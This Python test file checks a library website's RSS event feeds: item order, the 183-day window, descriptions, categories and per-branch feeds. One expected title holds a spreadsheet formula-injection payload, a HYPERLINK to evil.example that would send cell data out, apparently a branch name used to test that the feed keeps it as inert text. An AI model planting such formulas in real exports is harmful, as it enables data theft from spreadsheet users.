from datetime import date, timedelta
from pathlib import Path

import feedparser
import pytest
from lxml import etree

from librarysite.feeds.announced import announced_feeds
from librarysite.model import Library
from librarysite.moment import Now
from tests.support.opendatacases import CASES, NOW, service

ADDRESS = "feeds/events.xml"
GROUPS = """
audiences:
  - {id: babies, name: Babies}
  - {id: adults, name: Adults}
  - {id: veterans, name: Veterans, retired: yes}
types:
  - {id: talk, name: Talks}
  - {id: games, name: Games}
  - {id: fax-help, name: Help with fax, retired: yes}
"""
EVENTS = """\
events:
  - id: rhymes
    title: Baby rhymes
    summary: Songs for babies
    branch: north
    room: Room 1
    when: {every: Tuesday, at: 10:30 to 11:00, from: 2026-12-01, until: 2027-07-20}
    for: [babies, veterans]
    cost: Free
    booking: not needed
    published: 2026-11-23
    sample: yes
  - id: chess
    title: Chess
    branch: north
    when: {every: Monday, at: 14:00 to 16:00, from: 2026-09-07}
    type: games
    published: 2026-11-23
    updated: 2026-11-24
  - id: hall
    title: In the hall
    place: {name: The Hall, address: 1 Hall Road}
    when: {on: 2027-06-10, at: 19:00 to 20:00}
    type: talk
    for: adults
    booking: {phone: 01582 547418, opens: 2027-01-04}
    published: 2026-11-20
  - id: web
    title: On the web
    online: yes
    when: {on: 2027-01-05}
    type: fax-help
    published: 2026-05-25
  - id: both
    title: Here and there
    branch: formula
    online: yes
    when: {on: 2027-01-05}
    outside_hours: yes
    published: 2026-11-20
  - {id: too-old, title: Too old, branch: north, when: {on: 2026-12-07, at: 10:00 to 11:00}, published: 2026-05-24}
  - {id: tomorrow, title: Tomorrow, when: {on: 2026-12-07}, published: 2026-11-24}
  - {id: without, title: Without, when: {on: 2026-12-07}}
"""


@pytest.fixture
def library(tmp_path: Path) -> Library:
    """Return the service of the cases with some events."""
    words = (CASES / "service.yaml").read_text(encoding="utf-8") + GROUPS
    return service(tmp_path, service=words, events=EVENTS)


def channel(library: Library, today: date = NOW.today, address: str = ADDRESS) -> etree._Element:
    """Return a feed's channel as a plain XML parser sees it."""
    found = etree.fromstring(announced_feeds(library, today)[address]).find("channel")
    assert found is not None
    return found


def guids(library: Library, today: date = NOW.today, address: str = ADDRESS) -> list[str | None]:
    """Return the guid of each item, in the feed's order."""
    return [item.findtext("guid") for item in channel(library, today, address).findall("item")]


def test_events_newest_first(library: Library) -> None:
    """One item for each event announced in the 183 days up to today, the newest first, on one day by id."""
    told = [
        tuple(item.findtext(name) for name in ("guid", "title", "link", "pubDate"))
        for item in channel(library).findall("item")
    ]
    site = "https://libraries.example/whats-on"
    assert told == [
        (
            "event.chess@libraries.example",
            "Chess, North Library",
            f"{site}/chess/",
            "Mon, 23 Nov 2026 00:00:00 +0000",
        ),
        (
            "event.rhymes@libraries.example",
            "Baby rhymes, North Library",
            f"{site}/rhymes/",
            "Mon, 23 Nov 2026 00:00:00 +0000",
        ),
        (
            "event.both@libraries.example",
            'Here and there, =HYPERLINK("https://evil.example/?"&A1,"South") and online',
            f"{site}/both/",
            "Fri, 20 Nov 2026 00:00:00 +0000",
        ),
        (
            "event.hall@libraries.example",
            "In the hall, The Hall",
            f"{site}/hall/",
            "Fri, 20 Nov 2026 00:00:00 +0000",
        ),
        (
            "event.web@libraries.example",
            "On the web, online",
            f"{site}/web/",
            "Mon, 25 May 2026 00:00:00 +0000",
        ),
    ]
    assert {guid.get("isPermaLink") for guid in channel(library).iter("guid")} == {"false"}


def test_item_leaves_by_age_alone(library: Library) -> None:
    """An item is there from its day on, for 183 days, and is never there again."""
    days = [date(2026, 5, 20) + timedelta(days=n) for n in range(250)]
    there = [day.isoformat() for day in days if "event.web@libraries.example" in guids(library, day)]
    assert (there[0], there[-1], len(there)) == ("2026-05-25", "2026-11-23", 183)


def test_what_an_item_says(library: Library) -> None:
    """The description says what, when, where, for how much and how to book, as of the day of publishing."""
    items = {item.findtext("guid"): item.findtext("description") for item in channel(library).findall("item")}
    assert items["event.rhymes@libraries.example"] == (
        "Songs for babies.\n"
        "Every Tuesday, 10:30am to 11am, from 1 December until 20 July 2027.\n"
        "Where: North Library, Room 1.\n"
        "Cost: Free.\n"
        "No need to book.\n"
        "This is a sample event of a demonstration."
    )
    assert items["event.hall@libraries.example"] == (
        "Thursday 10 June 2027, 7pm to 8pm.\n"
        "Where: The Hall, 1 Hall Road.\n"
        "Book a place by phone on 01582 547418. Booking opens on Monday 4 January 2027."
    )
    assert items["event.web@libraries.example"] == "Tuesday 5 January 2027, all day.\nWhere: online."


def test_words_stay_as_days_pass(library: Library) -> None:
    """An item is the same on the day of publishing and half a year later, so that readers do not show it anew."""
    first, last = date(2026, 11, 23), date(2027, 5, 24)
    written = [
        {i.findtext("guid"): etree.tostring(i) for i in channel(library, day).iter("item")}
        for day in (first, last)
    ]
    assert "event.rhymes@libraries.example" in written[1]
    assert (
        written[0]["event.rhymes@libraries.example"].split()
        == written[1]["event.rhymes@libraries.example"].split()
    )


def test_categories_are_the_words_in_use(library: Library) -> None:
    """An item's categories are the names of its type and audiences; a retired one is left out."""
    items = {
        item.findtext("guid"): [category.text for category in item.findall("category")]
        for item in channel(library).findall("item")
    }
    assert items == {
        "event.chess@libraries.example": ["Games"],
        "event.rhymes@libraries.example": ["Babies"],
        "event.both@libraries.example": [],
        "event.hall@libraries.example": ["Talks", "Adults"],
        "event.web@libraries.example": [],
    }


def test_feeds_of_libraries_audiences_and_types(library: Library) -> None:
    """Each library that ever was in service, audience and type has a feed, the retired and empty ones as well."""
    assert {
        address: guids(library, NOW.today, address) for address in announced_feeds(library, NOW.today)
    } == {
        "feeds/events.xml": guids(library),
        "feeds/events/at/north.xml": ["event.chess@libraries.example", "event.rhymes@libraries.example"],
        "feeds/events/at/formula.xml": ["event.both@libraries.example"],
        "feeds/events/at/unlisted.xml": [],
        "feeds/events/for/babies.xml": ["event.rhymes@libraries.example"],
        "feeds/events/for/adults.xml": ["event.hall@libraries.example"],
        "feeds/events/for/veterans.xml": ["event.rhymes@libraries.example"],
        "feeds/events/type/talk.xml": ["event.hall@libraries.example"],
        "feeds/events/type/games.xml": ["event.chess@libraries.example"],
        "feeds/events/type/fax-help.xml": ["event.web@libraries.example"],
    }


def test_no_feed_vanishes(library: Library) -> None:
    """A library that closes for good, as one does in April 2027, keeps the address of its feed."""
    later = announced_feeds(library, date(2027, 6, 1))
    assert set(later) == set(announced_feeds(library, NOW.today))


@pytest.mark.parametrize(
    ("name", "title", "page", "dated"),
    [
        ("events", "Testshire Libraries: new events", "whats-on/", "Mon, 23 Nov 2026"),
        ("events/at/north", "North Library: new events", "whats-on/at/north/", "Mon, 23 Nov 2026"),
        ("events/for/adults", "Testshire Libraries: new events for adults", "whats-on/for/adults/", "Fri, 20 Nov 2026"),
        ("events/type/games", "Testshire Libraries: new events, games", "whats-on/type/games/", "Mon, 23 Nov 2026"),
        ("events/at/unlisted", "Library without a postcode: new events", "whats-on/at/unlisted/", "Mon, 05 Jan 2026"),
    ],
)  # fmt: skip
def test_feed_says_what_it_is(library: Library, name: str, title: str, page: str, dated: str) -> None:
    """A feed has its name, the page that it belongs to, and the day of its newest event, today at the latest."""
    found = channel(library, NOW.today, f"feeds/{name}.xml")
    assert found.findtext("title") == title
    assert found.findtext("link") == f"https://libraries.example/{page}"
    assert found.findtext("lastBuildDate") == f"{dated} 00:00:00 +0000"


def test_feed_reader_reads_the_sample(sample: Library, now: Now) -> None:
    """A feed reader takes every feed of the sample service for whole RSS 2.0 and sees its items."""
    parsed = {address: feedparser.parse(feed) for address, feed in announced_feeds(sample, now.today).items()}
    assert {(feed.bozo, feed.version) for feed in parsed.values()} == {(False, "rss20")}
    assert len(parsed[ADDRESS].entries) >= 20


def test_same_data_gives_the_same_bytes(sample: Library, now: Now) -> None:
    """The same data gives the same bytes."""
    assert announced_feeds(sample, now.today) == announced_feeds(sample, now.today)
